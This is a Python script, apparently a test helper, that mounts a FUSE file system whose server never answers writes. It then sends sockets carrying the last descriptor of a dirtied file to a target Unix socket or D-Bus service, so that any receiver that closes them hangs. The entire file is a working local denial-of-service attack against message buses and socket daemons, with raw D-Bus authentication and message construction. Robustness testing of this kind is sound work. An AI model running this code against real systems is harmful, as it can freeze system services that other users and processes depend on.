"""A user who sends file descriptors that nobody can close.

stranger.py HOW SOCKET COUNT UID TEXT: mounts a file system whose server never answers a write, in a mount namespace
that is this program's alone, and sends, as that user, COUNT times a socket in whose queue is the last descriptor of a
file with a write under way. HOW is `datagram`, `file` (the same without TEXT, as a message in a file comes) or `stream`
(a connection each, which is closed), or `bus` (calls to TEXT, a name on a message bus, over one connection). Who receives must stand still meanwhile: whoever closes last waits. Says `sent N`, waits until its standard input ends, and
then ends the server too, by which all is let go of. Ends with 77 where there is no such file system.
"""
import array, ctypes, os, resource, socket, struct, sys, tempfile

NOT_POSSIBLE = 77
INIT, LOOKUP, GETATTR, SETATTR, OPEN, READ, WRITE = 26, 1, 3, 4, 14, 15, 16
RELEASE, FLUSH, FORGET, BATCH_FORGET, STATFS = 18, 25, 2, 42, 17
MOUNT_NOSUID_NODEV = 2 | 4
WRITEBACK_CACHE, ASYNC_READ, BIG_WRITES = 1 << 16, 1 << 0, 1 << 5


def attributes(inode):
    mode = 0o40777 if inode == 1 else 0o100666
    return struct.pack('<6Q10I', inode, 4096, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(fd):
    def answer(unique, data=b'', error=0):
        os.write(fd, struct.pack('<IiQ', 16 + len(data), error, unique) + data)

    while True:
        try:
            request = os.read(fd, (1 << 20) + 4096)
        except InterruptedError:
            continue
        _, operation, unique, inode = struct.unpack_from('<IIQQ', request)
        if operation == INIT:
            _, minor, _, flags = struct.unpack_from('<4I', request, 40)
            flags &= WRITEBACK_CACHE | ASYNC_READ | BIG_WRITES
            answer(unique, struct.pack('<4IHHIIHHIIH', 7, min(minor, 38), 1 << 17, flags, 16, 12, 1 << 17, 1, 0, 0, 0, 0, 0) + b'\0' * 22)
        elif operation == LOOKUP:
            answer(unique, struct.pack('<4Q2I', 2, 0, 3600, 3600, 0, 0) + attributes(2))
        elif operation == GETATTR:
            answer(unique, struct.pack('<QII', 3600, 0, 0) + attributes(inode))
        elif operation == OPEN:
            answer(unique, struct.pack('<QII', 1, 0, 0))
        elif operation == READ:
            answer(unique, b'\0' * 4096)
        elif operation in (WRITE, SETATTR, FORGET, BATCH_FORGET):
            pass
        elif operation == RELEASE:
            answer(unique)
        elif operation == STATFS:
            answer(unique, b'\0' * 80)
        else:
            answer(unique, error=-38)


def mounted():
    """A directory with the file system, and the descriptor of its server."""
    directory = tempfile.mkdtemp()
    os.chmod(directory, 0o755)
    fd = os.open('/dev/fuse', os.O_RDWR)
    options = f'fd={fd},rootmode=40000,user_id=0,group_id=0,allow_other'.encode()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b'stranger', directory.encode(), b'fuse', MOUNT_NOSUID_NODEV, options) != 0:
        raise OSError(ctypes.get_errno(), 'mount')
    return directory, fd


def rights(fd):
    return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))]


def poisoned(path):
    """A socket in whose queue is the last descriptor of the file."""
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    fd = os.open(path, os.O_RDWR)
    near.sendmsg([b'x'], rights(fd))
    os.close(fd)
    near.close()
    return far


def call(serial, destination, path, member, descriptors=0):
    """A call over a message bus, without arguments."""
    interface, member = member.rsplit('.', 1)
    fields = b''
    for code, kind, value in ((1, b'o', path), (2, b's', interface), (3, b's', member), (6, b's', destination)):
        fields += b'\0' * (-len(fields) % 8) + struct.pack('<BBcB', code, 1, kind, 0)
        fields += struct.pack('<I', len(value)) + value.encode() + b'\0'
    if descriptors:
        fields += b'\0' * (-len(fields) % 8) + struct.pack('<BBcBI', 9, 1, b'u', 0, descriptors)
    head = struct.pack('<cBBBIII', b'l', 1, 0, 1, 0, serial, len(fields))
    return head + fields + b'\0' * (-len(fields) % 8)


def on_bus(target, uid):
    """A connection to a message bus."""
    to = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    to.settimeout(10)
    to.connect(target)
    to.sendall(b'\0AUTH EXTERNAL ' + str(uid).encode().hex().encode() + b'\r\n')
    to.recv(999)
    to.sendall(b'NEGOTIATE_UNIX_FD\r\n')
    to.recv(999)
    to.sendall(b'BEGIN\r\n' + call(1, 'org.freedesktop.DBus', '/', 'org.freedesktop.DBus.Hello'))
    to.recv(999)
    return to


def main(how, target, count, uid, text):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        directory, fd = mounted()
    except OSError:
        sys.exit(NOT_POSSIBLE)
    server = os.fork()
    if server == 0:
        try:
            serve(fd)
        finally:
            os._exit(1)
    os.close(fd)
    os.chdir(os.path.dirname(target))
    target = os.path.basename(target)
    path = directory + '/file'
    writer = os.open(path, os.O_RDWR)
    sender = os.fork()
    if sender == 0:
        os.setgroups([])
        os.setresgid(uid, uid, uid)
        os.setresuid(uid, uid, uid)
        sockets = [poisoned(path) for _ in range(count)]
        os.pwrite(writer, b'dirty', 0)
        kind = socket.SOCK_STREAM if how == 'stream' else socket.SOCK_DGRAM
        sent, why, kept = 0, '', []
        bus = on_bus(target, uid) if how == 'bus' else None
        for near in sockets:
            to = bus or socket.socket(socket.AF_UNIX, kind)
            to.settimeout(10)
            try:
                if bus:
                    ping = call(sent + 2, text, '/', 'org.freedesktop.DBus.Peer.Ping', 1)
                    to.sendmsg([ping], rights(near.fileno()))
                else:
                    to.connect(target)
                    to.sendmsg([] if how == 'file' else [text.encode()], rights(near.fileno()))
                sent += 1
                near.close()
            except OSError as error:
                why = ' ' + type(error).__name__
                # What was refused stays open: closing it waits for the server.
                kept.append(near)
            if not bus:
                to.close()
        print(f'sent {sent}{why}', flush=True)
        sys.stdin.read()
        os._exit(0)
    sys.stdin.read()
    os.kill(server, 9)
    os.waitpid(server, 0)
    os.waitpid(sender, 0)


main(sys.argv[1], os.path.abspath(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
